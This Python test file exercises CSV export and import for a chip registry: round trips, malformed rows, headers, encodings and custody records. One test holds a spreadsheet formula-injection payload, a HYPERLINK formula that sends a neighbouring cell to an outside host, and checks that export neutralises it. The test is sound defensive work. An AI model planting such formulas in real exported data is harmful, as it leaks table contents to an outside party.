"""Chips in and out as CSV: what goes out comes in again unchanged, and nothing comes in unless all of it is good.

Round trip: export(import_(f)) gives f, for every f that `export` writes.
"""

from __future__ import annotations

import csv
import io
import tempfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from support.custody_trade import Trade, ueid

from verifier.registry import Chip, Registry
from verifier.registry.csvfile import COLUMNS, TableError, export, import_
from verifier.registry.reconstruction import compare, replay_log
from verifier.registry.transitions import STATES
from weighbridge.core.errors import WeighbridgeError

texts = st.text(st.characters(categories=("L", "N", "P", "S")) | st.just(" "), max_size=30)
rows = st.tuples(
    st.sampled_from(STATES),
    texts,
    texts,
    texts,
    st.sampled_from(["", "localhost:1", "[::1]:50"]),
    st.just(""),
    st.sampled_from(["", "rack-1.node_%d", "%d"]),  # of the chip's number: a name is one chip's alone
)


def exported(registry: Registry) -> str:
    out = io.StringIO()
    export(registry, out)
    return out.getvalue()


def table(*lines: str) -> list[str]:
    return [line + "\n" for line in lines]


@settings(max_examples=15, deadline=None)
@given(st.dictionaries(st.binary(min_size=17, max_size=33), rows, max_size=8))
def test_what_was_exported_is_imported_unchanged(chips: dict[bytes, tuple[str, ...]]) -> None:
    with tempfile.TemporaryDirectory() as directory:
        first, second = Registry(Path(directory) / "a.db"), Registry(Path(directory) / "b.db")
        named = ((key, values[:-1], values[-1].replace("%d", str(i))) for i, (key, values) in enumerate(chips.items()))
        lines = table(",".join(COLUMNS), *(_line(key.hex(), *values, name) for key, values, name in named))
        assert import_(first, lines) == len(chips)
        text = exported(first)
        assert len(list(first.everything())) == len(chips)
        assert import_(second, io.StringIO(text)) == len(chips)
        assert exported(second) == text
        size = second.tree_size
        assert import_(second, io.StringIO(text)) == len(chips)  # again: nothing new
        assert second.tree_size == size
        assert compare(second, replay_log(second.log.entries())) == []
        first.close()
        second.close()


def _line(*values: str) -> str:
    return ",".join('"' + value.replace('"', '""') + '"' for value in values)


@settings(max_examples=25, deadline=None)
@given(st.lists(st.text(max_size=40), max_size=6), st.booleans())
def test_hostile_files_raise_only_our_errors(lines: list[str], with_head: bool) -> None:
    with tempfile.TemporaryDirectory() as directory:
        registry = Registry(Path(directory) / "a.db")
        try:
            import_(registry, table(*(["ueid,site"] if with_head else []), *lines))
        except WeighbridgeError:
            assert list(registry.everything()) == []
        registry.close()


def test_a_site_that_a_spreadsheet_would_execute_is_only_shown(tmp_path: Path) -> None:
    """The attack: a Prover names its site by a formula that sends the next cell of the inspectorate's table away."""
    formula = '=HYPERLINK("https://example.org/?"&A2,"kiel")'
    first, second = Registry(tmp_path / "first.db"), Registry(tmp_path / "second.db")
    for number, (owner, site) in enumerate([("acme", formula), ("@SUM(1)", "+1+1"), ("'=1", "-2"), ("acme", "kiel")]):
        first.register(Chip(ueid=ueid(number), address="localhost:1", owner=owner, site=site))
    text = exported(first)
    cells = [(row[2], row[3]) for row in csv.reader(io.StringIO(text))][1:]
    assert cells == [("acme", f"'{formula}"), ("'@SUM(1)", "'+1+1"), ("''=1", "-2"), ("acme", "kiel")]
    assert import_(second, io.StringIO(text)) == 4
    assert [each.site for each in second.everything()] == [each.site for each in first.everything()]
    assert exported(second) == text


def test_custody_survives_as_a_listing(tmp_path: Path) -> None:
    trade = Trade(tmp_path)
    trade.supply(range(3))
    trade.say("lost", "acme", [1])
    text = exported(trade.registry)
    assert text.splitlines()[:3] == [
        ",".join(COLUMNS),
        f"{ueid(0).hex()},installed,acme,acme-1,WB-1,,,",
        f"{ueid(1).hex()},lost,acme,acme-1,WB-1,,,",
    ]
    other = Registry(tmp_path / "other.db")
    import_(other, io.StringIO(text))
    assert exported(other) == text
    assert [chip.ueid for chip in other.chips()] == [ueid(0), ueid(2)]
    assert import_(trade.registry, io.StringIO(text)) == 3  # says what parties say


def test_bad_rows_are_named_by_line_and_nothing_is_imported(tmp_path: Path) -> None:
    registry = Registry(tmp_path / "registry.db")
    registry.register(Chip(ueid=ueid(1), address="localhost:1", owner="acme"))
    before = (exported(registry), registry.tree_size, registry.root())
    good = [ueid(number).hex() for number in range(10, 700)]
    lines = table(
        "ueid,owner,address,state",
        *(f"{each},acme,,installed" for each in good),
        "xyz,acme,,installed",
        "0102,acme,,installed",
        f"{ueid(2).hex()},acme,nowhere,installed",
        f"{ueid(3).hex()},acme,,stolen",
        f"{ueid(4).hex()},acme",
        f"{good[0]},acme,,installed",
        "",
        f"{good[-1]},bolt,,installed",
        f'{ueid(5).hex()},"two\nlines",,installed',
    )
    with pytest.raises(TableError, match="nothing was imported") as caught:
        import_(registry, io.StringIO("".join(lines)))
    wrong = caught.value.details["lines"]
    first = len(good) + 2
    says = {
        first: "hexadecimal", first + 1: "17 to 33", first + 2: "host:port", first + 3: "no state",
        first + 4: "2 values", first + 5: "occurs twice", first + 7: "occurs twice", first + 9: "printable",
    }  # fmt: skip
    assert set(wrong) == {str(line) for line in says}
    for line, message in says.items():
        assert message in wrong[str(line)]
        assert f"line {line}:" in caught.value.message
    assert (exported(registry), registry.tree_size, registry.root()) == before


@pytest.mark.parametrize("head", ["", "state,owner", "ueid,ueid", "ueid,colour", "\ufeffcolour", "ueid;owner"])
def test_a_file_without_the_right_head_is_refused(tmp_path: Path, head: str) -> None:
    with pytest.raises(TableError, match="line 1 must name columns"):
        import_(Registry(tmp_path / "registry.db"), table(head, ueid(1).hex()))


def test_encodings_of_spreadsheets(tmp_path: Path) -> None:
    registry = Registry(tmp_path / "registry.db")
    path = tmp_path / "chips.csv"
    path.write_bytes(b"\xef\xbb\xbfsite,ueid\r\nK\xc3\xb6ln," + ueid(1).hex().upper().encode() + b"\r\n")
    with path.open(newline="", encoding="utf-8") as file:
        assert import_(registry, file) == 1
    assert registry.chip(ueid(1)).site == "Köln"
    path.write_bytes(b"site,ueid\nK\xf6ln," + ueid(2).hex().encode())
    with path.open(newline="", encoding="utf-8") as file, pytest.raises(TableError, match="UTF-8"):
        import_(registry, file)


def test_what_parties_said_is_not_overwritten(tmp_path: Path) -> None:
    trade = Trade(tmp_path)
    trade.supply([1, 2])
    trade.registry.register(Chip(ueid=ueid(3), address="localhost:3", owner="acme"))
    stays = f"{ueid(1).hex()},acme,acme-1,WB-1,localhost:5"
    with pytest.raises(TableError, match="line 3: statements say"):
        import_(trade.registry, table("ueid,owner,site,chip_type,address", stays, f"{ueid(2).hex()},bolt,,,"))
    assert trade.registry.chip(ueid(1)).address == ""
    listed = f"{ueid(3).hex()},bolt,kiel,WB-2,localhost:4"
    assert import_(trade.registry, table("ueid,owner,site,chip_type,address", stays, listed)) == 2
    assert trade.registry.chip(ueid(1)).address == "localhost:5"
    assert trade.registry.chip(ueid(3)).owner == "bolt"
